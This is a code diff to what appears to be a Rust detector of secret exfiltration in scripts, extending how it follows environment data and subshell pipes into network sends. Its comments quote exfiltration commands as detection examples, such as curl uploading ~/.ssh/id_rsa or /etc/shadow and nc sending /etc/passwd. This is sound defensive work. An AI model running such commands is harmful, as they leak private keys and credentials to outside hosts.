@@ -156,6 +156,9 @@ impl<'t> Analyzer<'t> {
             if s.kind != SendKind::Command {
                 self.signs.network_send.get_or_insert(s.node);
             }
+            if s.kind == SendKind::Client {
+                self.check_metadata_request(s.node, pos, s.scope);
+            }
             // A command's keywords are its environment, directory and pipes:
             // `env=os.environ.copy()` is how a child gets a tweaked
             // environment, not a way out of the machine.
@@ -255,6 +258,13 @@ impl<'t> Analyzer<'t> {
                                 }
                             }
                             _ => {}
+                        }
+                    }
+                    // `found[k] = os.environ[k]` into a dict bound empty:
+                    // what was put into it is sent with it.
+                    for (s, v) in self.mutations_near(self.text(n), scope) {
+                        if acc.seen.first(v, depth) {
+                            self.env_flow(v, s, depth + 1, acc);
                         }
                     }
                     return;
@@ -397,6 +407,7 @@ fn head_of(stage: &str) -> &str {
 /// `curl -d "$(cat ~/.ssh/id_rsa)"`, `env | curl -d @-`), or a network tool
 /// uploading a secret itself (`curl -d @/etc/shadow`, `nc h p < /etc/passwd`).
 fn exfil_in_command(lower: &str) -> Option<String> {
+    let lower = &piped_groups(lower);
     let statements = lower
         .split([';', '\n'])
         .flat_map(|s| s.split("&&"))
@@ -431,6 +442,31 @@ fn exfil_in_command(lower: &str) -> Option<String> {
         }
     }
     None
+}
+
+/// `( env; cat f ) | curl -d @- url`: the commands of a group (a subshell
+/// or a command substitution) all write into the pipe the group feeds, so
+/// their separators inside the parentheses count as pipes, and the group
+/// stays one pipeline with the tool it feeds.
+fn piped_groups(lower: &str) -> String {
+    let mut depth = 0usize;
+    let mut out = String::with_capacity(lower.len());
+    for c in lower.chars() {
+        match c {
+            '(' => depth += 1,
+            ')' => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+        if depth == 0 || !matches!(c, ';' | '\n') {
+            out.push(c);
+            continue;
+        }
+        // `a;` then a new line is one separator: two pipes would read as
+        // `||`, which separates statements.
+        let after_pipe = out.trim_end().ends_with('|');
+        out.push(if after_pipe { ' ' } else { '|' });
+    }
+    out
 }
 
 /// A secret a network tool's own arguments upload: `@file` data (curl -d,
